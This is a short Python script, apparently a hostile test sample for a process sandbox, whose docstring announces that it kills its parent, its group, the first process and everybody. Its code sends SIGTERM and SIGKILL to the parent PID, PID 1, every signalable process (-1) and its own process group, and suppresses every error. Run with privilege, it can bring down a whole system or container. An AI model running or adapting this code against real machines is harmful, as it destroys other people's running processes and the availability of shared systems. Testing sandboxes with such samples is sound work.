"""Kill its parent, its group, the first process and everybody. Nobody may die but itself."""

import os
import signal

for target in (os.getppid(), 1, -1, 0, -os.getpgrp()):
    for number in (signal.SIGTERM, signal.SIGKILL):
        if target not in (os.getpid(), 0):
            try:
                os.kill(target, number)
            except OSError:
                pass
